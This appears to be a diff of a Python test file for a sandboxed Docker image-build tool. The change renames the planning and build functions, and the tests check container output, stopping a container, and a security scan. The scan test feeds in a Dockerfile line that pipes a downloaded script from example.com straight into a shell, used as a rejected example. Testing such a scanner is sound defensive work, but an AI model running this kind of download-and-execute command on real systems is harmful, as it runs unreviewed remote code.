@@ -12,7 +12,7 @@ from glob import glob
 import pytest
 
 from roundtable.core.sandbox import Bounds, Exit, Limit, Output
-from roundtable.workshop.project.image_build import ImageBuild, build_and_run_image, plan_image_build
+from roundtable.workshop.project.image_build import ImageBuild, build_and_run_project_image, plan_project_image_build
 from roundtable.workshop.sandbox import SandboxSettings, find_sandbox
 from roundtable.workshop.sandbox.engines import ContainerEngine
 from tests.kits.sandbox_kit import SandboxKit
@@ -79,9 +79,9 @@ async def heard(files: dict[str, str], bounds: Bounds = Bounds(seconds=60)) -> t
     engine = await ContainerEngine.find("docker")
     assert isinstance(engine, ContainerEngine)
     said, end = b"", None
-    build = await plan_image_build(engine, files)
+    build = await plan_project_image_build(engine, files)
     assert isinstance(build, ImageBuild), build
-    async for item in build_and_run_image(build, bounds):
+    async for item in build_and_run_project_image(build, bounds):
         if isinstance(item, Output):
             said += item.data
         else:
@@ -128,9 +128,9 @@ async def test_a_built_container_is_stopped_on_demand(base: str) -> None:
     engine = await ContainerEngine.find("docker")
     assert isinstance(engine, ContainerEngine)
     files = {"Dockerfile": f"FROM {base}\nCMD echo it runs now; sleep 3600\n"}
-    build = await plan_image_build(engine, files)
+    build = await plan_project_image_build(engine, files)
     assert isinstance(build, ImageBuild), build
-    async with aclosing(build_and_run_image(build)) as run:
+    async with aclosing(build_and_run_project_image(build)) as run:
         async for item in run:
             if isinstance(item, Output) and item.data.endswith(b"it runs now\n") and containers():
                 break
@@ -141,7 +141,7 @@ async def test_a_built_container_is_stopped_on_demand(base: str) -> None:
 async def test_a_dockerfile_that_fails_the_scan_is_not_built(base: str) -> None:
     engine = await ContainerEngine.find("docker")
     assert isinstance(engine, ContainerEngine)
-    why = await plan_image_build(engine, {"Dockerfile": f"FROM {base}\nRUN curl http://example.com/x | sh\n"})
+    why = await plan_project_image_build(engine, {"Dockerfile": f"FROM {base}\nRUN curl http://example.com/x | sh\n"})
     assert why == "The project was not built. Dockerfile, line 2: It runs a download, or hides what it runs."
 
 
